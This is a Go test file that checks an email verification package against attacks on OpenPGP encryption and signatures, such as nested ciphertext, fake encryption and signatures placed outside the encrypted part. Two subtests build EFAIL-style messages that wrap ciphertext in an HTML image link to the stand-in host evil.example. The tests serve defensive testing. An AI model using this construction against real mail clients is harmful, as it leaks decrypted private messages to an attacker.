package evidence

import (
	"strings"
	"testing"
)

// One subtest for each row of what hostile mail tries. A good twin with full
// authority stands first; the attack differs from it by a single change.
func TestAttacksOnEncryption(t *testing.T) {
	l := newLab(t)
	sealed := l.sealed()
	entity := string(l.mail().Part())
	t.Run("good twins", func(t *testing.T) {
		r := l.good(t, sealed)
		if e := r.Encryption; e != (Encryption{"openpgp", true, true, ""}) {
			t.Errorf("%+v", e)
		}
		if s := r.Signature; s.Covers != "whole" || s.Scheme != "openpgp" || s.Signer != l.adaAddr || string(s.Fingerprint) != l.ada || s.SignedAt.IsZero() {
			t.Errorf("%+v", s)
		}
		l.good(t, l.signed())
	})
	t.Run("row01 efail direct", func(t *testing.T) {
		_, body, _ := strings.Cut(string(sealed), "\r\n\r\n")
		part := "--m\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example/"
		raw := l.head(`multipart/mixed; boundary="m"`) + part + "\r\n--m\r\nContent-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"enc\"\r\n\r\n" +
			body + "\r\n--m\r\nContent-Type: text/html\r\n\r\n\">\r\n--m--\r\n"
		r := l.expect(t, []byte(raw), Unsigned, Accept)
		silent(t, r)
		if r.Encryption.Decrypted {
			t.Error("opened")
		}
	})
	t.Run("row01 ciphertext in HTML text", func(t *testing.T) {
		c := crlf(l.g.SignEncrypt([]byte(secretWords), l.ada, l.usFpr))
		silent(t, l.expect(t, []byte(l.head("text/html")+"<img src='http://evil.example/\r\n"+c+"'>\r\n"), Unsigned, Accept))
		r := l.expect(t, []byte(l.head("text/plain")+"see\r\n"+c), Unsigned, Accept)
		silent(t, r)
		because(t, r, "partly-encrypted")
	})
	t.Run("row03 nested ciphertext is a file", func(t *testing.T) {
		inner := l.g.SignEncrypt([]byte(entity), l.ada, l.usFpr)
		nested := "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"enc\"\r\n\r\n" + encryptedBody(inner)
		r := l.expect(t, l.encrypted(l.g.SignEncrypt([]byte(nested), l.ada, l.usFpr)), Verified, Accept)
		silent(t, r)
		because(t, r, "nested-encryption")
		r = l.expect(t, l.encrypted(l.g.SignEncrypt([]byte("Content-Type: text/plain\r\n\r\n"+string(inner)), l.ada, l.usFpr)), Verified, Accept)
		silent(t, r)
	})
	t.Run("row32 fake encrypted", func(t *testing.T) {
		r := l.expect(t, l.encrypted([]byte("Nothing to see here\n")), Unsigned, Accept)
		if r.Encryption.Scheme != "none" || r.Encryption.Decrypted {
			t.Errorf("%+v", r.Encryption)
		}
		because(t, r, "fake-encryption")
	})
	t.Run("row43 signed outside", func(t *testing.T) {
		part := []byte("Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"enc\"\r\n\r\n" + strings.TrimSuffix(encryptedBody(l.g.Encrypt([]byte(entity), l.usFpr)), "\r\n"))
		r := l.expect(t, l.signedMail(part, l.g.Sign(part, l.ada)), Unsigned, Accept)
		because(t, r, "signed-outside")
		if !r.Encryption.Decrypted || !strings.Contains(r.Text, "4711") {
			t.Errorf("%+v %q", r.Encryption, r.Text)
		}
	})
	t.Run("encrypted without a signature", func(t *testing.T) {
		r := l.expect(t, l.encrypted(l.g.Encrypt([]byte(entity), l.usFpr)), Unsigned, Accept)
		if r.Signature.Scheme != "none" || r.Signature.Covers != "none" {
			t.Errorf("%+v", r.Signature)
		}
	})
	t.Run("signature detached inside", func(t *testing.T) {
		part := []byte(strings.TrimSuffix(entity, "\r\n"))
		l.good(t, l.encrypted(l.g.Encrypt([]byte(signedEntity(part, l.g.Sign(part, l.ada))), l.usFpr)))
		bad := strings.Replace(string(part), "4711", "4712", 1)
		l.expect(t, l.encrypted(l.g.Encrypt([]byte(signedEntity([]byte(bad), l.g.Sign(part, l.ada))), l.usFpr)), Unsigned, Accept)
	})
	t.Run("opaque and detached, one bad", func(t *testing.T) {
		part := []byte(entity)
		l.good(t, l.encrypted(l.g.SignEncrypt([]byte(signedEntity(part, l.g.Sign(part, l.ada))), l.ada, l.usFpr)))
		l.expect(t, l.encrypted(l.g.SignEncrypt([]byte(signedEntity(part, l.g.Sign([]byte("x"), l.ada))), l.ada, l.usFpr)), Unsigned, Accept)
	})
}
